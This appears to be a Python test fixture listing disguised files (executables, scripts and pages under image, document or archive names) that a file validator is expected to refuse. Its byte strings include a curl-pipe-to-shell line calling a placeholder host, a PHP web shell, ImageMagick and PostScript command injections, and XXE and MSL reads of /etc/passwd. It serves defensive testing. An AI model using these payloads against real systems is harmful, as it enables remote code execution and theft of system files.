"""Files that are something else than they say: programs, pages and scripts under the names of documents."""

from __future__ import annotations

import random

from tests.corpus.hostile import programs
from tests.corpus.specimens import Maker, Specimen, always, declared_as, refuse
from tests.files import gif_animated, heic, jpeg_with_gps, mp3, mp4, ogg, pdf, png_with_text, wav, webm, webp
from tests.files.archives import archive
from tests.files.bad_office import BAD
from tests.files.office import MISNAMED, sheet, slides, word

PAGE = b"<!DOCTYPE html><html><head><script>fetch('/v1/session')</script></head><body>Hello</body></html>\n"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(document.domain)</script></svg>\n"
SHELL = b"#!/bin/sh\ncurl -s http://198.51.100.7/a | sh\n"
HTA = b'<hta:application id=a><script language=VBScript>CreateObject("WScript.Shell").Run "calc"</script>\n'
PHP = b"<?php system($_GET['c']); ?>\n"

PROGRAMS: list[tuple[str, str, Maker]] = [
    ("a Windows program called a photo", "IMG_2041.jpg", programs.windows_program),
    ("a Windows program called an invoice", "Invoice 2026-118.pdf", programs.windows_program),
    ("a Windows program called a letter", "Application.docx", programs.windows_program),
    ("a Windows program called an archive", "Documents.zip", programs.windows_program),
    ("a Windows program called a text", "readme.txt", programs.windows_program),
    ("a DOS program called a sheet", "Prices.xlsx", programs.dos_program),
    ("a Linux program called a photo", "holiday.png", programs.linux_program),
    ("a Linux library called a recording", "Voice 003.mp3", programs.linux_library),
    ("a Mac program called a recording", "memo.wav", programs.mac_program),
    ("a Mac program for two processors called a film", "clip.mp4", programs.mac_universal),
    ("a Java class called a scan", "scan0001.png", programs.java_class),
    ("a Java archive called an archive", "photos.zip", programs.jar),
    ("an Android package called an archive", "backup.zip", programs.android_package),
    ("WebAssembly called a picture", "banner.webp", programs.web_assembly),
    ("a shortcut called a letter", "Contract.docx", programs.shortcut),
    ("a shortcut called a photo", "DSC_0001.jpg", programs.shortcut),
    ("an old Office file called a new one", "Quarter.xlsx", programs.old_office),
    ("an old Office file called a photo", "DSC_0044.jpeg", programs.old_office),
    ("Flash called an animation", "intro.gif", programs.flash),
    ("a disk image called a text", "notes.txt", programs.disk_image),
    ("a disk image called a film", "film.mov", programs.disk_image),
    ("a package of Debian called a text", "list.txt", programs.debian_package),
    ("a help file called a paper", "manual.pdf", programs.help_file),
    ("a notebook called slides", "Team.pptx", programs.notebook),
    ("gzip called an archive", "logs.zip", programs.gzipped),
    ("gzip called a photo", "DSC_0071.jpg", programs.gzipped),
    ("7z called an archive", "album.zip", programs.seven_zip),
    ("rar called an archive", "album2.zip", programs.rar),
    ("a cabinet called a letter", "Offer.docx", programs.cabinet),
    ("a font called a picture", "logo.png", programs.font),
    ("a font as it is", "Corporate.ttf", programs.font),
    ("a font of the web called a recording", "jingle.ogg", programs.web_font),
]

SCRIPTS: list[tuple[str, str, bytes]] = [
    ("a page called a photo", "IMG_2042.jpg", PAGE),
    ("a page called a drawing", "plan.png", PAGE),
    ("a page called a paper", "Statement.pdf", PAGE),
    ("a page called a text", "order.txt", PAGE),
    ("a page called a letter", "Letter.docx", PAGE),
    ("a page called a film", "video.webm", PAGE),
    ("a page in UTF-16 called a photo", "IMG_2043.jpg", PAGE.decode().encode("utf-16")),
    ("a page after a comment called a text", "hint.txt", b"\n\n<!-- hello -->\n" + PAGE),
    ("a page after a byte order mark called a text", "hint2.txt", b"\xef\xbb\xbf" + PAGE),
    ("a page as it is", "order.html", PAGE),
    ("a drawing with a script as it is", "logo.svg", SVG),
    ("a drawing with a script called a photo", "logo.png", SVG),
    ("a drawing with a script called a text", "logo.txt", b'<?xml version="1.0"?>\n' + SVG),
    ("an application of pages called a photo", "form.jpg", HTA),
    ("a script called an animation", "cat.gif", b"var a = 1; alert(a);\n"),
    ("a script called a photo", "cat.jpg", b"(function(){location='//198.51.100.7'})()\n"),
    ("a script as it is", "cat.js", b"new ActiveXObject('WScript.Shell').Run('calc')\n"),
    ("a shell script called a scan", "scan.jpeg", SHELL),
    ("a shell script called a text", "install.txt", SHELL),
    ("a shell script called an archive", "install.zip", SHELL),
    ("a server's script called a photo", "avatar.png", PHP),
    ("a server's script called a text", "avatar.txt", PHP),
    ("a batch called a paper", "bill.pdf", b"@echo off\r\nstart calc.exe\r\n"),
    ("PowerShell called a photo", "pic.webp", b"Start-Process calc.exe\r\n"),
    ("PostScript called a paper", "paper.pdf", b"%!PS-Adobe-3.0\n(%pipe%id) (w) file\n"),
    ("PostScript called a photo", "paper.jpg", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n"),
    (
        "a script for a converter called a photo",
        "mvg.jpg",
        b"push graphic-context\nfill 'url(https://198.51.100.7/\"|id\")'\n",
    ),
    (
        "a script for a converter called a drawing",
        "msl.png",
        b'<?xml version="1.0"?><image><read filename="/etc/passwd"/></image>\n',
    ),
    ("a rich text called a letter", "Reply.docx", b"{\\rtf1\\ansi{\\object\\objocx{\\*\\objdata 01050000}}}"),
    (
        "a saved page called a letter",
        "Saved.docx",
        b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=a\r\n\r\n"
        b"--a\r\nContent-Type: text/html\r\n\r\n" + PAGE,
    ),
    (
        "a link of Windows called a photo",
        "site.png",
        b"[InternetShortcut]\r\nURL=file://198.51.100.7/a.exe\r\n",
    ),
]

# A right signature, and nothing right behind it.
SIGNATURES: dict[str, bytes] = {
    "png": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\1\0\0\0\1\0\x08\2\0\0\0",
    "jpg": b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0",
    "gif": b"GIF89a\x10\0\x10\0\x80\0\0",
    "webp": b"RIFF\xff\xff\0\0WEBPVP8 ",
    "heic": b"\0\0\0\x18ftypheic\0\0\0\0mif1heic",
    "pdf": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
    "mp4": b"\0\0\0\x18ftypmp42\0\0\0\0isommp42",
    "mov": b"\0\0\0\x14ftypqt  \0\0\0\0qt  ",
    "webm": b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81\1\x42\xf7\x81\1\x42\xf2\x81\4\x42\xf3\x81\x08\x42\x82\x84webm",
    "mp3": b"ID3\3\0\0\0\0\0\0",
    "ogg": b"OggS\0\2" + bytes(8) + b"\1\0\0\0\0\0\0\0\0\0\0\0\1\x13OpusHead\1\2",
    "wav": b"RIFF\xff\xff\0\0WAVEfmt \x10\0\0\0\1\0\1\0",
    "docx": b"PK\3\4\x14\0\0\0\x08\0\0\0!\0" + bytes(12) + b"\x13\0\0\0[Content_Types].xml",
    "xlsx": b"PK\3\4\x14\0\6\0\x08\0\0\0!\0" + bytes(12) + b"\x13\0\0\0[Content_Types].xml",
    "pptx": b"PK\3\4\x14\0\0\0\x08\0\0\0!\0" + bytes(12) + b"\x13\0\0\0[Content_Types].xml",
    "zip": b"PK\3\4\x14\0\0\0\x08\0\0\0!\0" + bytes(12) + b"\5\0\0\0a.txt",
}

OTHERS: list[tuple[str, str, Maker]] = [
    ("a drawing called a paper", "plan.pdf", png_with_text),
    ("a paper called a photo", "bill.jpg", pdf),
    ("a film called a photo", "walk.jpg", mp4),
    ("a recording called a film", "talk.mp4", mp3),
    ("a recording called another", "talk.mp3", wav),
    ("a recording called a third", "talk.wav", ogg),
    ("a film called another", "walk.mp4", webm),
    ("a phone's photo called a film", "IMG_0033.mp4", heic),
    ("an animation called a film", "jump.mp4", gif_animated),
    ("a text called a drawing", "list.png", always(b"Hello.\n" * 40)),
    ("a table called a sheet", "list.xlsx", always(b"a;b\n1;2\n" * 40)),
    ("an archive called a letter", "papers.docx", lambda: archive("a.txt")),
    ("a letter called an archive", "letter.zip", word),
    ("a sheet called a letter", "sheet.docx", sheet),
    ("slides called a sheet", "slides.xlsx", slides),
    ("a photo called a text", "photo.txt", jpeg_with_gps),
    ("a picture called a recording", "sound.mp3", webp),
]


def _hollow(extension: str, head: bytes) -> Specimen:
    """Noise behind a signature."""
    noise = random.Random(extension).randbytes(5000)
    return refuse(
        "disguise", f"{extension} by its signature only", f"file 7.{extension}", always(head + noise)
    )


def _carrier(extension: str, head: bytes) -> Specimen:
    """A script behind a signature, as sent to servers that look at first bytes."""
    return refuse(
        "disguise",
        f"a script behind the signature of {extension}",
        f"file 8.{extension}",
        always(head + PHP + PAGE),
    )


DISGUISES: tuple[Specimen, ...] = (
    *(refuse("disguise", what, name, make) for what, name, make in PROGRAMS if not name.endswith(".ttf")),
    *(
        refuse("disguise", what, name, always(content))
        for what, name, content in SCRIPTS
        if not name.endswith((".svg", ".html", ".js"))
    ),
    *(_hollow(*item) for item in SIGNATURES.items()),
    *(_carrier(*item) for item in SIGNATURES.items()),
    *(refuse("disguise", what, name, make) for what, name, make in OTHERS),
    *(
        refuse("disguise", f"an Office document: {what}", f"Document.{extension}", make)
        for what, (extension, make, reason) in BAD.items()
        if reason == MISNAMED and declared_as(f"a.{extension}")
    ),
    *(refuse("svg html font", what, name, make) for what, name, make in PROGRAMS if name.endswith(".ttf")),
    *(
        refuse("svg html font", what, name, always(content))
        for what, name, content in SCRIPTS
        if name.endswith((".svg", ".html", ".js"))
    ),
    refuse(
        "svg html font",
        "a drawing without a script as it is",
        "icon.svg",
        always(b"<svg xmlns='http://www.w3.org/2000/svg'/>"),
    ),
    refuse(
        "svg html font",
        "a drawing that fetches",
        "chart.svg",
        always(
            b"<svg xmlns='http://www.w3.org/2000/svg' xmlns:x='http://www.w3.org/1999/xlink'><image x:href='http://198.51.100.7/a'/></svg>"
        ),
    ),
    refuse(
        "svg html font",
        "a drawing with entities",
        "tree.svg",
        always(
            b"<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg xmlns='http://www.w3.org/2000/svg'><text>&x;</text></svg>"
        ),
    ),
    refuse("svg html font", "a drawing told as a picture", "badge.svg", always(SVG), "image/png"),
    refuse("svg html font", "a page told as a text", "page.htm", always(PAGE), "text/plain"),
    refuse(
        "svg html font",
        "a page of XML",
        "page.xhtml",
        always(b"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><script>1</script></html>"),
    ),
    refuse("svg html font", "a saved mail", "page.mhtml", always(b"MIME-Version: 1.0\r\n")),
    refuse("svg html font", "a font of the web", "Brand.woff2", programs.web_font),
)
